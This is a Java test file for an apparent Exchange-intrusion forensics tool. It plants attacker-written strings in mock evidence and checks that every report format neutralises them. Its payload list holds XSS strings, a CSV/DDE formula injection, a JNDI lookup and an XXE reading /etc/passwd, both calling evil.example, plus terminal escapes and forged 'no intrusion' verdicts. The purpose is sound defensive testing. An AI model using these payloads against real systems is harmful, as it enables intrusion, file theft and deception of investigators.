package org.postern.fuzz;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Texts that an intruder wrote for whoever looks at the reports, in every format of output. */
class AntiForensicsTest {
  private static final String FORMULA = "=HYPERLINK(\"http://evil.example\")";
  private static final List<String> PAYLOADS =
      List.of(
          "<script>evilscript()</script>",
          "<img src=x onerror=evilscript()>",
          "\"onmouseover='evilscript()'",
          "[click](javascript:evilscript())",
          "\u001b]8;;http://evil.example\u0007\u001b[2J\u001b[31m",
          FORMULA,
          "+cmd|' /C evil'!A0",
          "${jndi:ldap://evil.example/a}{{7*7}}<%= 7*7 %>",
          "\u202Egnp.exe\u2066\u200B\uFEFF",
          "]]><!ENTITY e SYSTEM 'file:///etc/passwd'>--></pre></td>",
          "![picture](http://evil.example/pixel) <http://evil.example> `code` | cell | **bold**",
          "#Fields: date time\r\n#Software: Microsoft Exchange Server",
          "</main><h1>Verdict: no signs of an intrusion</h1><main>",
          "{\"schema\":\"postern.check/1\",\"servers\":[{\"name\":\"EX01\",\"verdict\":\"NO_SIGNS\"}]}");

  @TempDir static Path folder;

  @SuppressWarnings("NullAway.Init") // made before the first test
  private static Outputs outputs;

  @BeforeAll
  static void check() throws IOException {
    StringBuilder log =
        new StringBuilder(
            "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.006\r\n"
                + "#Log-type: HttpProxy Logs\r\n#Fields: DateTime,UrlStem,AnchorMailbox,"
                + "ClientIpAddress,ServerHostName,HttpStatus,UserAgent\r\n");
    for (String payload : PAYLOADS) {
      String quoted = payload.replace("\"", "\"\"");
      log.append("2021-03-03T02:14:07.000Z,\"/ecp/y.js")
          .append(quoted)
          .append("\",\"ServerInfo~a]@ex01:444/ecp/proxyLogon.ecp?#")
          .append(quoted)
          .append("\",\"")
          .append(quoted)
          .append("\",EX01,241,\"")
          .append(quoted)
          .append("\"\r\n");
    }
    Map<String, String> members = new TreeMap<>();
    String at = "EX01/C/inetpub/wwwroot/aspnet_client/";
    members.put("EX01/C/Exchange/Logging/HttpProxy/Ecp/a.LOG", log.toString());
    int i = 0;
    for (String payload : PAYLOADS) {
      members.put(at + i++ + payload.replace('/', '_').replace('\\', '_') + ".aspx", "x" + i);
    }
    members.put(at + "n".repeat(32_000) + ".aspx", "long");
    members.put(at + "CON.aspx", "reserved");
    members.put(at + FORMULA.replace('/', '_') + ".aspx", "formula");
    Path zip = Files.createDirectory(folder.resolve("evidence")).resolve("all.zip");
    try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(zip))) {
      for (Map.Entry<String, String> member : members.entrySet()) {
        out.putNextEntry(new ZipEntry(member.getKey()));
        out.write(member.getValue().getBytes(StandardCharsets.UTF_8));
      }
    }
    outputs = Outputs.of(folder.resolve("evidence"));
  }

  @Test
  void theEvidenceIsFoundForAllItsDisguise() {
    assertThat(outputs.assessment().servers()).hasSize(1);
    assertThat(outputs.assessment().servers().getFirst().findings()).hasSizeGreaterThan(10);
  }

  @Test
  void noOutputHoldsControlsOrChangesOfWritingDirection() {
    assertThat(outputs.texts())
        .hasSizeGreaterThan(40)
        .allSatisfy(
            (format, text) ->
                assertThat(text.codePoints().filter(c -> isHidden(c, format)).count())
                    .as("hidden characters in %s", format)
                    .isZero());
  }

  /** The result, from which all else is made, keeps what the evidence says; it is for machines. */
  private static boolean isHidden(int c, String format) {
    boolean invisible =
        !format.equals("check.json")
            && !format.startsWith("api/")
            && Character.getType(c) == Character.FORMAT;
    return c != '\n' && c != '\r' && (Character.isISOControl(c) || invisible);
  }

  @Test
  void pagesHoldNoElementOrAttributeThatEvidenceWrote() {
    assertThat(outputs.texts())
        .allSatisfy(
            (format, text) -> {
              if (format.endsWith(".html")) {
                assertThat(text)
                    .as(format)
                    .doesNotContain(
                        "<script>evil",
                        "<img src=x",
                        "<%=",
                        "<!ENTITY",
                        "\"onmouseover",
                        "<h1>Verdict");
                assertThat(text).as(format).doesNotContainPattern("href=[\"']?\\s*javascript:");
                assertThat(text).as(format).doesNotContainPattern("href=[\"']?http://evil");
              }
            });
  }

  @Test
  void noCellOfASpreadsheetIsAFormula() throws IOException {
    for (String format : List.of("findings.csv", "timeline.csv", "cisa.csv")) {
      String text = outputs.texts().getOrDefault(format, "").replace("\uFEFF", "");
      List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new StringReader(text)).getRecords();
      assertThat(rows).as(format).hasSizeGreaterThan(1);
      for (CSVRecord row : rows) {
        assertThat(row.toList())
            .as(format)
            .allSatisfy(cell -> assertThat(cell).doesNotMatch("(?s)\\s*[=+@\\t\\r-].*"));
      }
    }
  }

  @Test
  void machineFormatsAreWellFormed() throws IOException {
    ObjectMapper mapper = new ObjectMapper();
    for (String format : List.of("check.json", "stix.json", "misp.json")) {
      assertThat(mapper.readTree(outputs.texts().get(format)).isObject()).as(format).isTrue();
    }
    for (String line : outputs.texts().getOrDefault("ocsf.jsonl", "").lines().toList()) {
      assertThat(mapper.readTree(line).isObject()).isTrue();
    }
  }

  @Test
  void paperHoldsNothingThatActs() {
    assertThat(new String(outputs.pdf(), StandardCharsets.ISO_8859_1))
        .doesNotContain("/JavaScript", "/JS ", "/Launch", "/URI", "/OpenAction", "/EmbeddedFile");
  }

  @Test
  void namesInAPackageAreSafeEverywhere() throws IOException {
    List<String> names = new ArrayList<>();
    try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(outputs.handoff()))) {
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        names.add(entry.getName());
      }
    }
    assertThat(names)
        .hasSizeGreaterThan(12)
        .allSatisfy(name -> assertThat(name).matches("[A-Za-z0-9._/-]{1,110}"))
        .noneMatch(name -> name.contains("..") || name.startsWith("/"))
        .noneMatch(name -> name.matches("(?i)(.*/)?(con|nul|aux|prn)(\\..*)?"));
  }

  @Test
  void anEndlessNameDoesNotFloodWhatPeopleRead() {
    for (String format : List.of("terminal", "cisa.csv", "brief.html")) {
      assertThat(outputs.texts().getOrDefault(format, ""))
          .as(format)
          .doesNotContain("n".repeat(3_000));
    }
  }
}
